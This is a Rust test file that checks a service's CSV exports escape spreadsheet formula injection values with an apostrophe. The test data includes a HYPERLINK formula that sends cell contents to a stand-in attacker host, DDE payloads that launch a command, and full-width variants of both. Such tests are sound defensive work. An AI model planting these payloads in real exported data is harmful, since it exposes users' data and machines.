//! Values that a spreadsheet would run: none leaves as a formula, by whatever way a table is made.

use serde_json::{Value, json};

use crate::served::Served;

/// What a steward of another department may have been sent.
const FORMULAS: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＠SUM(1)",
    "＋1",
];

/// The cells of a table: double quotes taken away, line breaks in cells kept.
fn cells(table: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut characters = table.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(c) = characters.next() {
        match c {
            '"' if quoted && characters.peek() == Some(&'"') => {
                cell.push('"');
                characters.next();
            }
            '"' => quoted = !quoted,
            ',' | '\r' | '\n' if !quoted => cells.push(std::mem::take(&mut cell)),
            c => cell.push(c),
        }
    }
    cells.push(cell);
    cells
}

fn is_formula(cell: &str) -> bool {
    let is_number = cell.parse::<f64>().is_ok();
    !is_number
        && cell
            .trim_start()
            .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

#[test]
fn no_table_runs_what_is_in_it() {
    let served = Served::city(60, 8);
    let headers = [("jiku-department", "statistics")];
    for (number, formula) in FORMULAS.iter().enumerate() {
        let body = json!({ "properties": { "code": format!("F{number}"), "name": formula, "topic": formula, "unit": "人" } });
        let answer = served.send(
            "POST",
            "/collections/indicator/items",
            &headers,
            &body.to_string(),
        );
        assert_eq!(answer.status, 201, "{answer:?}");
    }
    let query = |body: Value| {
        served
            .send("POST", "/query?f=csv", &[], &body.to_string())
            .body
    };
    let tables = [
        ("items", served.get("/collections/indicator/items?f=csv").1),
        (
            "some",
            served
                .get("/collections/indicator/items?f=csv&properties=name,topic&limit=100")
                .1,
        ),
        ("query", query(json!({ "from": "indicator" }))),
        (
            "groups",
            query(json!({ "from": "indicator", "group": ["topic"] })),
        ),
        (
            "measures",
            query(json!({ "from": "indicator", "group": ["topic"], "measures": ["count"] })),
        ),
    ];
    for (way, table) in &tables {
        let cells = cells(table);
        let run = cells.iter().find(|cell| is_formula(cell));
        assert_eq!(run, None, "{way}");
        // They are there all the same, each behind an apostrophe.
        let kept = |formula: &&str| {
            cells
                .iter()
                .any(|cell| cell.strip_prefix('\'') == Some(*formula))
        };
        assert!(FORMULAS.iter().all(kept), "{way} {table}");
    }
    let gb = served.get("/collections/indicator/items?f=ndjson").1;
    assert!(
        gb.contains("=HYPERLINK"),
        "other forms keep the value as it is"
    );
}
